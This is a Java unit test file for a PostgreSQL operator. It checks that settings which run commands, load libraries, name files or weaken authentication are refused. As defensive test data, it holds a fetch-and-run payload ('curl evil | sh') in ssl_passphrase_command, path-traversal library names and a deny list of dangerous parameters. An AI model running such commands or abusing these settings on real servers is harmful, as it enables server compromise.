package io.tradingdb.operator.tradingdatabase.model;

import io.tradingdb.operator.kube.InvalidSpecException;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.tradingdb.operator.tradingdatabase.workload.PatroniConfigMap;
import io.tradingdb.operator.tradingdatabase.pooler.TestClusters;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/**
 * The hostile corpus of spec.postgresql.parameters: every setting that runs a command, loads code, names a
 * server file or weakens authentication is refused with the reason, before any object is built.
 * PostgresParametersIT checks the classification against the real server's pg_settings.
 */
class PostgresParametersTest {

  private static final List<String> PRELOADED = ClusterModel.ALWAYS_PRELOADED;

  @ParameterizedTest(name = "{0} is refused: {1}")
  @CsvSource({
      // The findings: commands and libraries that reached patroni.yaml.
      "ssl_passphrase_command, runs a shell command",
      "archive_library, loads code",
      "archive_cleanup_command, runs a shell command",
      "recovery_end_command, runs a shell command",
      "session_preload_libraries, loads code",
      "local_preload_libraries, loads code",
      "dynamic_library_path, loads code",
      // Found by the classification, not by the issue.
      "extension_destdir, loads code",
      "jit_provider, loads code",
      "archive_command, runs a shell command",
      "restore_command, runs a shell command",
      "shared_preload_libraries, extraSharedPreloadLibraries",
      "log_directory, names a file or folder",
      "log_filename, names a file or folder",
      "krb_server_keyfile, names a file or folder",
      "ssl_dh_params_file, names a file or folder",
      "ssl_crl_dir, names a file or folder",
      "unix_socket_permissions, names a file or folder",
      "data_directory, names a file or folder",
      "hba_file, names a file or folder",
      "ssl_ciphers, spec.tls",
      "ssl_min_protocol_version, spec.tls",
      "password_encryption, authentication",
      "scram_iterations, authentication",
      "lo_compat_privileges, weakens a security check",
      "session_replication_role, weakens a security check",
      "search_path, changes how every session resolves names",
      "standard_conforming_strings, weakens a security check",
      "allow_system_table_mods, weakens a security check",
      "zero_damaged_pages, weakens a security check",
      "event_triggers, weakens a security check",
      "allow_alter_system, weakens a security check",
      "primary_conninfo, owned by Patroni",
      "recovery_target_time, owned by Patroni",
      "wal_level, owned by Patroni",
      "listen_addresses, listening address",
      "Port, listening address",
      "debug_discard_caches, debugging aid",
      "jit_profiling_support, names a file or folder",
      "block_size, fixed when PostgreSQL is built",
  })
  void dangerousParametersAreRefusedWithTheReason(String name, String reason) {
    assertThatThrownBy(() -> PostgresParameters.check(name, PRELOADED))
        .isInstanceOf(InvalidSpecException.class)
        .hasMessageContaining("spec.postgresql.parameters." + name + " is refused")
        .hasMessageContaining(reason);
  }

  @ParameterizedTest
  @ValueSource(strings = {"max_connections", "shared_buffers", "work_mem", "DateStyle", "timezone",
      "log_min_duration_statement", "archive_timeout", "synchronous_commit", "statement_timeout",
      "pg_stat_statements.track", "timescaledb.max_tuples_decompressed_per_dml_transaction"})
  void tuningParametersAreAccepted(String name) {
    assertThatCode(() -> PostgresParameters.check(name, PRELOADED)).doesNotThrowAnyException();
  }

  @ParameterizedTest
  @ValueSource(strings = {"not_a_parameter", "max_conections", "ssl_passphrase_commands"})
  void namesNoReleaseHasAreRefused(String name) {
    assertThatThrownBy(() -> PostgresParameters.check(name, PRELOADED))
        .isInstanceOf(InvalidSpecException.class).hasMessageContaining("has reviewed");
  }

  @Test
  void customSettingsMustBelongToAPreloadedLibrary() {
    assertThatThrownBy(() -> PostgresParameters.check("pljava.libjvm_location", PRELOADED))
        .isInstanceOf(InvalidSpecException.class).hasMessageContaining("belongs to no preloaded library");
    assertThatCode(() -> PostgresParameters.check("auto_explain.log_min_duration", List.of("timescaledb", "auto_explain")))
        .doesNotThrowAnyException();
    assertThatThrownBy(() -> PostgresParameters.check("timescaledb.telemetry_level", PRELOADED))
        .hasMessageContaining("use spec.timescaledb.telemetry");
  }

  @ParameterizedTest
  @ValueSource(strings = {"a b", "a;b", "x.y.z", ".x", "1x", "a\nb", "ssl_passphrase_command\u0000"})
  void malformedNamesAreRefusedWithoutEchoingControlCharacters(String name) {
    assertThatThrownBy(() -> PostgresParameters.check(name, PRELOADED))
        .isInstanceOf(InvalidSpecException.class).hasMessageContaining("is not a PostgreSQL parameter name")
        .satisfies(e -> assertThat(e.getMessage()).doesNotContain("\n").doesNotContain("\u0000"));
  }

  @Test
  void everyClassifiedParameterSaysWhyWhenDenied() {
    assertThat(PostgresParameters.all()).hasSizeGreaterThan(350);
    List<String> kinds = List.of("command", "library", "path", "tls", "network", "auth", "security", "replication",
        "developer", "readonly");
    assertThat(PostgresParameters.all().values()).allSatisfy(p ->
        assertThat(p.kind()).as(p.name()).isIn(p.allowed() ? List.of("-") : kinds));
  }

  @Test
  void theModelRefusesBeforeAnythingIsRenderedAndCollapsesDuplicateLibraries() {
    assertThatThrownBy(() -> TestClusters.model("n", "t", """
        databaseName: ai_trading
        postgresql:
          parameters:
            ssl_passphrase_command: "sh -c 'curl evil | sh'"
        """)).isInstanceOf(InvalidSpecException.class).hasMessageContaining("runs a shell command");

    ClusterModel model = TestClusters.model("n", "t", """
        databaseName: ai_trading
        postgresql:
          extraSharedPreloadLibraries: [auto_explain, timescaledb, auto_explain, pg_stat_statements]
          parameters:
            auto_explain.log_min_duration: "500"
        """);
    assertThat(model.sharedPreloadLibraries()).containsExactly("timescaledb", "pg_stat_statements", "auto_explain");
    Map<String, Object> rendered = PatroniConfigMap.postgresParameters(model);
    assertThat(rendered).containsEntry("shared_preload_libraries", "timescaledb,pg_stat_statements,auto_explain")
        .containsEntry("auto_explain.log_min_duration", "500");
  }

  @ParameterizedTest
  @ValueSource(strings = {"$libdir/evil", "../../tmp/evil", "/tmp/evil.so", "a,b", "a b", "evil\n"})
  void preloadLibrariesAreBareNames(String library) {
    assertThatThrownBy(() -> TestClusters.model("n", "t", """
        databaseName: ai_trading
        postgresql:
          extraSharedPreloadLibraries: ["%s"]
        """.formatted(library.replace("\n", "\\n"))))
        .isInstanceOf(InvalidSpecException.class).hasMessageContaining("is not a library name");
  }

  @Test
  void oneSettingSpelledTwiceWithDifferentValuesIsRefused() {
    assertThatThrownBy(() -> TestClusters.model("n", "t", """
        databaseName: ai_trading
        postgresql:
          parameters:
            work_mem: 64MB
            Work_Mem: 1TB
        """)).isInstanceOf(InvalidSpecException.class).hasMessageContaining("sets work_mem twice");
  }
}
